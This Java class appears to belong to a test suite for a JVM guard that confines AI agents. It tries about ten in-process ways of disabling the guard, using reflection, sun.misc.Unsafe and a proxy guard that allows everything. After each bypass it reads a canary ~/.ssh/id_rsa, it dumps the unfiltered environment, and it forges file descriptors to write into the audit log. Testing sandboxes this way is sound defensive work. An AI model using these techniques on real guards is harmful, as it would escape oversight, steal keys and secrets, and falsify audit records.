package dev.agentguard.apps.attacks;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.VarHandle;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicReference;

/**
 * Switches the guard off from inside the guarded JVM, with reflection only (no {@code --add-opens}) and
 * {@code sun.misc.Unsafe}: the bridge class is found by name; its public methods are called; its private
 * static state ({@code guard}, the per-thread {@code DEPTH}) is changed through setAccessible, a private
 * lookup and Unsafe; a guard of the attacker's own is installed. Each variant then reads
 * {@code ~/.ssh/id_rsa} with a plain FileInputStream: the attack succeeded if that returns the canary.
 * Each variant puts the guard back afterwards, so one success does not decide the next; run this in a JVM
 * of its own anyway. Also with Unsafe: the JDK's unfiltered environment map, and a FileDescriptor whose
 * number is forged to write into files the guard opened (its audit log).
 */
public final class GuardTamperAttack implements Attack {
    static final String BRIDGE = "dev.agentguard.bootstrap.GuardBridge";
    static final String GUARD = "dev.agentguard.bootstrap.Guard";

    public static void main(String[] args) {
        AttackSuite.runOne("GuardTamperAttack", new GuardTamperAttack());
    }

    @Override
    public void run(AttackTarget t, AttackReport report) throws Exception {
        String key = t.sshKey().toString();
        report.grab("tamper-baseline-plain-read", () -> PathEscapeAttack.readIo(key));
        report.grab("tamper-bridge-public-enterguard", () -> {
            // The bridge's suspend call needs the key the agent got at install; a key of our own is refused.
            Class<?> bridge = Class.forName(BRIDGE);
            Object forged = new Object();
            unwrap(() -> bridge.getMethod("enterGuard", Object.class).invoke(null, forged));
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                unwrap(() -> bridge.getMethod("exitGuard", Object.class).invoke(null, forged));
            }
        });
        report.grab("tamper-bridge-public-markguardthread", () -> {
            AtomicReference<Object> got = new AtomicReference<>();
            Thread thread = new Thread(() -> {
                try {
                    unwrap(() -> Class.forName(BRIDGE).getMethod("markGuardThread", Object.class)
                            .invoke(null, new Object()));
                    got.set(PathEscapeAttack.readIo(key));
                } catch (Throwable e) {
                    got.set(e);
                }
            });
            thread.start();
            thread.join();
            if (got.get() instanceof Throwable e) {
                throw e instanceof Exception ex ? ex : new RuntimeException(e);
            }
            return got.get();
        });
        report.grab("tamper-bridge-field-setaccessible", () -> {
            Field f = Class.forName(BRIDGE).getDeclaredField("guard");
            f.setAccessible(true);
            Object saved = f.get(null);
            f.set(null, null);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                f.set(null, saved);
            }
        });
        report.grab("tamper-bridge-depth-threadlocal", () -> {
            Field f = Class.forName(BRIDGE).getDeclaredField("DEPTH");
            f.setAccessible(true);
            int[] depth = (int[]) ((ThreadLocal<?>) f.get(null)).get();
            depth[0] = 1;
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                depth[0] = 0;
            }
        });
        report.grab("tamper-bridge-privatelookupin", () -> {
            Class<?> bridge = Class.forName(BRIDGE);
            VarHandle guard = MethodHandles.privateLookupIn(bridge, MethodHandles.lookup())
                    .findStaticVarHandle(bridge, "guard", Class.forName(GUARD));
            Object saved = guard.get();
            guard.set((Object) null);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                guard.set(saved);
            }
        });
        report.grab("tamper-unsafe-guard-field", () -> {
            Unsafe u = new Unsafe();
            Field f = Class.forName(BRIDGE).getDeclaredField("guard");
            Object base = u.staticFieldBase(f);
            long offset = u.staticFieldOffset(f);
            Object saved = u.getObject(base, offset);
            u.putObject(base, offset, null);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                u.putObject(base, offset, saved);
            }
        });
        report.grab("tamper-unsafe-raw-environment", () -> {
            System.getenv(); // makes sure ProcessEnvironment is initialized
            Unsafe u = new Unsafe();
            Field f = Class.forName("java.lang.ProcessEnvironment").getDeclaredField("theUnmodifiableEnvironment");
            return String.valueOf(u.getObject(u.staticFieldBase(f), u.staticFieldOffset(f)));
        });
        report.mustThrow("tamper-unsafe-forged-fd-write", () -> {
            Unsafe u = new Unsafe();
            long fdOffset = u.objectFieldOffset(FileDescriptor.class.getDeclaredField("fd"));
            List<Integer> written = new ArrayList<>();
            byte[] line = "{\"forged\":\"FORGED-FD\"}\n".getBytes(StandardCharsets.UTF_8);
            for (int n = 3; n < 48; n++) {
                FileDescriptor fd = new FileDescriptor();
                u.putInt(fd, fdOffset, n);
                try {
                    FileOutputStream out = new FileOutputStream(fd);
                    if (out.getChannel().size() <= 0) {
                        continue; // not a regular file with content: a pipe, a socket, an epoll handle
                    }
                    out.write(line);
                    written.add(n);
                } catch (java.io.IOException notWritable) {
                    // a read-only jar, a directory: try the next number
                }
            }
            if (written.isEmpty()) {
                throw new java.io.IOException("no descriptor took the write");
            }
        }, "wrote through forged descriptors into files the JVM holds open (the parent checks the audit log)");
        report.grab("tamper-bridge-install-own-guard", () -> {
            Class<?> bridge = Class.forName(BRIDGE);
            Class<?> guardType = Class.forName(GUARD);
            Field f = bridge.getDeclaredField("guard");
            Object saved = new Unsafe().getObject(new Unsafe().staticFieldBase(f), new Unsafe().staticFieldOffset(f));
            Object allowAll = Proxy.newProxyInstance(GuardTamperAttack.class.getClassLoader(), new Class<?>[] {guardType},
                    (proxy, method, args) -> allowAll(method, args));
            Method install = bridge.getMethod("install", guardType);
            install.invoke(null, allowAll);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                install.invoke(null, saved);
            }
        });
        report.grab("tamper-bridge-install-null", () -> {
            Class<?> bridge = Class.forName(BRIDGE);
            Field f = bridge.getDeclaredField("guard");
            Unsafe u = new Unsafe();
            Object saved = u.getObject(u.staticFieldBase(f), u.staticFieldOffset(f));
            Method install = bridge.getMethod("install", Class.forName(GUARD));
            install.invoke(null, (Object) null);
            try {
                return PathEscapeAttack.readIo(key);
            } finally {
                install.invoke(null, saved);
            }
        });
        report.grab("tamper-baseline-plain-read-after", () -> PathEscapeAttack.readIo(key));
    }

    /** A guard that allows everything: returns the value it was handed, or nothing. */
    private static Object allowAll(Method method, Object[] args) {
        if (method.getName().equals("getenv") && args != null && args.length == 2) {
            return args[1];
        }
        if (method.getName().equals("getenvAll") && args != null) {
            return args[0];
        }
        if (method.getReturnType() == boolean.class) {
            return true;
        }
        return null;
    }

    /** sun.misc.Unsafe through reflection (jdk.unsupported opens sun.misc to everyone). */
    static final class Unsafe {
        private final Object unsafe;
        private final Class<?> type;

        Unsafe() throws Exception {
            type = Class.forName("sun.misc.Unsafe");
            Field f = type.getDeclaredField("theUnsafe");
            f.setAccessible(true);
            unsafe = f.get(null);
        }

        Object staticFieldBase(Field f) throws Exception {
            return type.getMethod("staticFieldBase", Field.class).invoke(unsafe, f);
        }

        long staticFieldOffset(Field f) throws Exception {
            return (long) type.getMethod("staticFieldOffset", Field.class).invoke(unsafe, f);
        }

        long objectFieldOffset(Field f) throws Exception {
            return (long) type.getMethod("objectFieldOffset", Field.class).invoke(unsafe, f);
        }

        Object getObject(Object base, long offset) throws Exception {
            return type.getMethod("getObject", Object.class, long.class).invoke(unsafe, base, offset);
        }

        void putObject(Object base, long offset, Object value) throws Exception {
            type.getMethod("putObject", Object.class, long.class, Object.class).invoke(unsafe, base, offset, value);
        }

        void putInt(Object base, long offset, int value) throws Exception {
            type.getMethod("putInt", Object.class, long.class, int.class).invoke(unsafe, base, offset, value);
        }
    }

    /** Calls a reflective action and rethrows what the called method threw, so the report sees the guard's denial. */
    private static void unwrap(ReflectiveCall call) throws Exception {
        try {
            call.run();
        } catch (java.lang.reflect.InvocationTargetException e) {
            if (e.getCause() instanceof RuntimeException runtime) {
                throw runtime;
            }
            throw e;
        }
    }

    @FunctionalInterface
    private interface ReflectiveCall {
        void run() throws Exception;
    }
}
